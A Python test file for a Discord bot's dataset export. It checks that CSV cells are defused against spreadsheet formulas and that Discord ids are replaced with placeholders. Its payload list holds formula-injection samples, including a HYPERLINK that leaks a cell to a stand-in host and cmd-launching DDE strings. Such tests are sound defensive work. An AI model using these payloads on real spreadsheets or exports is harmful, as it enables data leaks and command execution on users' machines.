"""What exported text may carry: no formulas a spreadsheet runs, no Discord ids, no UI notes."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from bot.rag.question import validate_question
from store.db import Database
from store.export_dataset import DatasetFormat, export_csv, export_dataset
from store.export_rows import ExportFilters
from store.export_text import LEGACY_BANNERS, LEGACY_NOTES, replace_mentions, strip_decorations
from store.records import AskContext
from store.writers import FORMULA_TRIGGERS
from tests.store.conftest import QALog, make_answer

SALT = b"a test salt"
ASKER = 381234567890123456
CONTEXT = AskContext(surface="slash", user_id=ASKER, guild_id=991234567890123456)

# Each is a question a participant could type; the answer echoes it, as models often do.
FORMULAS = (
    '=HYPERLINK("http://x.example/?leak="&A1,"Pulsa aquí")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)

USER, NICK, ROLE, CHANNEL = (
    "381234567890111111",
    "381234567890222222",
    "991234567890333333",
    "551234567890444444",
)
MENTIONS_QUESTION = (
    f"Hola <@{USER}> y <@!{NICK}>: ¿el rol <@&{ROLE}> puede escribir en <#{CHANNEL}>? "
    f"También @{USER}, @!{NICK}, @&{ROLE} y #{CHANNEL}."
)
MENTIONS_EXPECTED = (
    "Hola @usuario y @usuario: ¿el rol @rol puede escribir en #canal? "
    "También @usuario, @usuario, @rol y #canal."
)


async def _export(db: Database, out: Path, fmt: str, **filters: Any) -> Path:
    """Export to `out` (a CSV file, or a dataset folder); return the file holding `fmt`'s rows."""
    if fmt == "csv":
        await export_csv(db, out, ExportFilters(**filters), salt=SALT)
        return out
    kind: DatasetFormat = "parquet" if fmt == "parquet" else "jsonl"
    await export_dataset(db, out, ExportFilters(**filters), salt=SALT, fmt=kind)
    return out / "data" / f"{'alpaca' if fmt == 'alpaca' else 'messages'}.{kind}"


def _files(out: Path) -> list[Path]:
    """Every file an export wrote at `out`: the CSV file, or the folder's card and data."""
    return [out] if out.is_file() else [p for p in out.rglob("*") if p.is_file()]


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _chat_pairs(fmt: str, path: Path) -> list[tuple[str, str]]:
    if fmt == "csv":
        return [(r["question"], r["answer"]) for r in _csv_rows(path)]
    if fmt == "parquet":
        records = pq.read_table(path).to_pylist()
    else:
        records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if fmt == "alpaca":
        return [(r["instruction"], r["output"]) for r in records]
    return [(r["messages"][0]["content"], r["messages"][1]["content"]) for r in records]


async def test_csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe(
    db: Database, qalog: QALog, tmp_path: Path
) -> None:
    for formula in FORMULAS:
        await qalog.record(make_answer(question=formula, text=formula), CONTEXT)
    # The question as `/pregunta` stores it: validation strips a protective leading tab.
    typed = validate_question('\t=HYPERLINK("http://x.example")', 1500)
    await qalog.record(make_answer(question=typed, text="Sin fórmulas."), CONTEXT)
    await qalog.record(make_answer(question="¿Qué es RAG?", text="- una lista"), CONTEXT)

    rows = _csv_rows(await _export(db, tmp_path / "d" / "qa.csv", "csv"))

    by_question = {row["question"]: row for row in rows}
    for formula in FORMULAS:
        row = by_question["'" + formula]
        assert row["answer"] == "'" + formula
    assert "'" + typed in by_question
    assert by_question["¿Qué es RAG?"]["answer"] == "'- una lista"
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in FORMULA_TRIGGERS and cell.lstrip()[:1] not in FORMULA_TRIGGERS


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
async def test_data_formats_keep_the_text_as_asked(
    db: Database, qalog: QALog, tmp_path: Path, fmt: str
) -> None:
    for formula in FORMULAS:
        await qalog.record(make_answer(question=formula, text=formula), CONTEXT)
    pairs = _chat_pairs(fmt, await _export(db, tmp_path / "qa", fmt))
    assert sorted(pairs) == sorted((f, f) for f in FORMULAS)


@pytest.mark.parametrize("fmt", ["jsonl", "alpaca", "csv", "parquet"])
async def test_discord_mentions_become_placeholders_in_every_format(
    db: Database, qalog: QALog, tmp_path: Path, fmt: str
) -> None:
    pair = await qalog.record(
        make_answer(question=MENTIONS_QUESTION, text=f"Pregunta a <@&{ROLE}> en <#{CHANNEL}>."),
        CONTEXT,
    )
    edited = await qalog.record(make_answer(question="¿Y tú?", text="x"), CONTEXT)
    assert pair is not None and edited is not None
    await qalog.review(edited, "edited", 7, edited_answer=f"Habla con <@{USER}>.")
    target = tmp_path / fmt / ("qa.csv" if fmt == "csv" else "qa")
    out = await _export(db, target, fmt)

    assert sorted(_chat_pairs(fmt, out)) == sorted(
        [
            (MENTIONS_EXPECTED, "Pregunta a @rol en #canal."),
            ("¿Y tú?", "Habla con @usuario."),
        ]
    )
    written = _files(target)
    assert out in written and (fmt == "csv" or target / "README.md" in written)
    for path in written:
        content = path.read_bytes()
        for raw in (USER, NICK, ROLE, CHANNEL, str(ASKER), "991234567890123456"):
            assert raw.encode() not in content, (path.name, raw)


async def test_numbers_that_are_not_mentions_are_kept(
    db: Database, qalog: QALog, tmp_path: Path
) -> None:
    text = "El modelo tiene 600000000 parámetros; #1 en la tabla; escribe a a@b.es; <@usuario>"
    await qalog.record(make_answer(question=text, text=text), CONTEXT)
    pairs = _chat_pairs("jsonl", await _export(db, tmp_path / "qa", "jsonl"))
    assert pairs == [(text, text)]


OLD_EXTRACTIVE = (
    f"{LEGACY_BANNERS[0]}\n\n> «Argilla sirve para anotar.» [1]\n> «Y distilabel genera.» [2]"
)
OLD_PARTIAL = f"Argilla es una herramienta [1]\n\n{LEGACY_NOTES[0]}"
OLD_CANCELLED = f"Argilla es\n\n{LEGACY_NOTES[1]}"


@pytest.mark.parametrize("fmt", ["jsonl", "alpaca", "csv", "parquet"])
async def test_answers_stored_with_display_decorations_are_exported_without_them(
    db: Database, qalog: QALog, tmp_path: Path, fmt: str
) -> None:
    await qalog.record(make_answer(question="extractiva", text=OLD_EXTRACTIVE), CONTEXT)
    await qalog.record(make_answer(question="parcial", text=OLD_PARTIAL, status="partial"), CONTEXT)
    await qalog.record(
        make_answer(question="cortada", text=OLD_CANCELLED, status="partial"), CONTEXT
    )
    out = await _export(db, tmp_path / fmt / ("qa.csv" if fmt == "csv" else "qa"), fmt)
    answers = dict(_chat_pairs(fmt, out))
    assert answers == {
        "extractiva": "> «Argilla sirve para anotar.» [1]\n> «Y distilabel genera.» [2]",
        "parcial": "Argilla es una herramienta [1]",
        "cortada": "Argilla es",
    }


def test_only_the_known_decorations_are_removed_and_only_where_they_were_put() -> None:
    assert strip_decorations(OLD_EXTRACTIVE).startswith("> «Argilla")
    assert strip_decorations(OLD_PARTIAL) == "Argilla es una herramienta [1]"
    assert strip_decorations(LEGACY_NOTES[1]) == ""
    quoted = f"La nota {LEGACY_NOTES[0]} aparece en medio y se queda."
    assert strip_decorations(quoted) == quoted
    unrelated = "*Respuesta breve.*\n\nTexto.\n\n*(Nota del moderador.)*"
    assert strip_decorations(unrelated) == unrelated
    assert strip_decorations("  Sin adornos.  ") == "  Sin adornos.  "


def test_mention_forms_at_the_edges_of_the_text() -> None:
    assert replace_mentions(f"<@{USER}>") == "@usuario"
    assert replace_mentions(f"(<#{CHANNEL}>),<@&{ROLE}>.") == "(#canal),@rol."
    assert replace_mentions(f"<@{USER}") == "<@usuario"  # an unclosed mention still hides the id
    assert replace_mentions(f"#{CHANNEL}000") == f"#{CHANNEL}000"  # 21 digits: not an id
    assert replace_mentions(f"id{USER} y a@{USER}") == f"id{USER} y a@{USER}"
